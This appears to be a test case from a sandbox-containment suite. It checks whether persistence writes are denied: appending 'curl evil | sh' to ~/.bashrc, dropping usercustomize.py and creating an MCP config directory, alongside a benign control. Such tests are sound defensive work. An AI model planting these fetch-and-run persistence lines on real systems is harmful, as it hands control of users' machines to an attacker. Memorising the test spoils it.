# id: LIFE-09
# category: filesystem
# technique: persistence through host config: append to ~/.bashrc, drop a usercustomize.py and an MCP config
# expect: DENY(ENOENT)|EMU
# catalogue: 91
# race: no
# audit: view.hidden|view.read_only
import os, pvesc

def attack(c):
    pvesc.try_write(os.path.join(c["home"], ".bashrc"), b"curl evil | sh\n")
    pvesc.try_write(os.path.join(c["home"], "usercustomize.py"), b"import os\n", "wb")
    try:
        os.makedirs(os.path.join(c["home"], ".config", "mcp"), exist_ok=True)
        pvesc.out("mkdir ok")
    except OSError as e:
        pvesc.out("mkdir ->", e)

def twin(c):
    os.makedirs(".config/mcp", exist_ok=True)
    return pvesc.try_write(".bashrc", b"alias ll='ls -l'\n") and \
        pvesc.try_read(".bashrc") == b"alias ll='ls -l'\n"

pvesc.main(attack, twin)
